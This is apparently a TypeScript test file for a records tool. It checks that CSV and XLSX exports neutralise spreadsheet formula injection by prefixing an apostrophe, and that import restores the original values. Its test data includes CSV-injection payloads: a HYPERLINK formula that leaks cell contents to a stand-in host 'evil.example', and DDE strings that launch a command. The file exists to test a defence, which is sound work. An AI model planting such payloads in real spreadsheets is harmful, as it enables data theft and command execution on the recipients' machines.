/**
 * M7 (issue 12): cells a spreadsheet would run as a formula are exported with a leading
 * apostrophe (OWASP "CSV injection"), in CSV and XLSX, and the import takes it off again, so an
 * exported file imports back to the very same values. Numbers in numeric columns are numbers,
 * not text: -12.5 stays -12.5.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import type { Repositories } from '#core/ports.ts';
import type { Database } from '#db/open-database.ts';
import { TEST_DATABASES } from '#test/test-databases.ts';
import { exportRecords } from './export-records.ts';
import { escapeFormula, unescapeFormula } from './formula-escape.ts';
import { importRecords } from './import-records.ts';
import { openRecordSource } from './read-records.ts';

const dir = mkdtempSync(join(tmpdir(), 'musubi-formula-'));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\tタブで始まる',
  '\r改行で始まる',
  "'=already quoted",
  "''+twice",
  '＝全角',
  "it's =fine inside",
  '普通の名前',
];

async function load(repos: Repositories): Promise<void> {
  await repos.entity('actors').upsertMany(
    HOSTILE.map((name, i) => ({
      id: i === 0 ? '=cmd' : `a${i}`,
      kind: 'organization',
      sector: 'company',
      name,
      prefectureCode: '37',
      flags: [],
      keywords: i === 1 ? ['-x', '=y'] : [],
    })),
  );
  await repos.entity('indicators').upsertMany([
    {
      areaType: 'prefecture',
      areaCode: '37',
      year: 2024,
      metric: 'population_change',
      value: -12.5,
      unit: '-%',
    },
  ]);
}

async function firstCells(path: string): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** Whether a spreadsheet would read the cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

describe('formula escape', () => {
  it('M7: is undone exactly, for every text', () => {
    for (const text of [...HOSTILE, '', "'", "'a", "''", "'-", '-', '-5', '0', "'''=x"]) {
      const escaped = escapeFormula(text);
      expect(escaped).not.toMatch(FORMULA_START);
      expect(unescapeFormula(escaped)).toBe(text);
    }
  });
});

describe.each(TEST_DATABASES)('M7: export → import on $name', (kind) => {
  const open: Database[] = [];
  afterEach(async () => {
    for (const db of open.splice(0)) await db.close();
  });
  async function fresh(): Promise<Database> {
    const db = await kind.open();
    open.push(db);
    return db;
  }

  async function roundTrip(format: 'csv' | 'xlsx'): Promise<Record<string, string>> {
    const first = await fresh();
    await load(first.repos);
    const second = await fresh();
    const paths: Record<string, string> = {};
    for (const entity of ['actors', 'indicators'] as const) {
      const path = join(dir, `${kind.name}-${entity}.${format}`);
      paths[entity] = path;
      await exportRecords(first.repos, entity, path, format);
      const report = await importRecords(second.repos, entity, await openRecordSource(path));
      expect(report.rejected).toEqual([]);
      const original = [];
      for await (const batch of first.repos.entity(entity).iterate()) original.push(...batch);
      // Imports trim text (a rule of every import, not of the escape), so a name that starts with
      // a tab or a carriage return comes back without it; everything else comes back as it was.
      for (const record of original)
        if (typeof record['name'] === 'string') record['name'] = record['name'].trim();
      const copied = [];
      for await (const batch of second.repos.entity(entity).iterate()) copied.push(...batch);
      expect(copied).toEqual(original);
    }
    return paths;
  }

  it('M7: CSV cells never start a formula, and import gives back the original values', async () => {
    const paths = await roundTrip('csv');
    const rows = parse(readFileSync(paths['actors'] ?? '', 'utf8')) as string[][];
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    expect(rows.flat()).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"詳細")');
    expect(rows.flat()).toContain("'''+twice");
    expect(rows.flat()).toContain("'-x;=y");
    const [header, indicator] = parse(
      readFileSync(paths['indicators'] ?? '', 'utf8'),
    ) as string[][];
    const value = header?.indexOf('value') ?? -1;
    expect(indicator?.[value]).toBe('-12.5');
    expect(indicator?.[header?.indexOf('unit') ?? -1]).toBe("'-%");
  });

  it('M7: XLSX cells never start a formula, numbers stay numbers, and import gives back the values', async () => {
    const paths = await roundTrip('xlsx');
    const rows = await firstCells(paths['actors'] ?? '');
    for (const row of rows)
      for (const cell of row) if (typeof cell === 'string') expect(cell).not.toMatch(FORMULA_START);
    expect(rows.flat()).toContain("'+cmd|' /C calc'!A0");
    const [header, indicator] = await firstCells(paths['indicators'] ?? '');
    expect(indicator?.[header?.indexOf('value') ?? -1]).toBe(-12.5);
  });
});
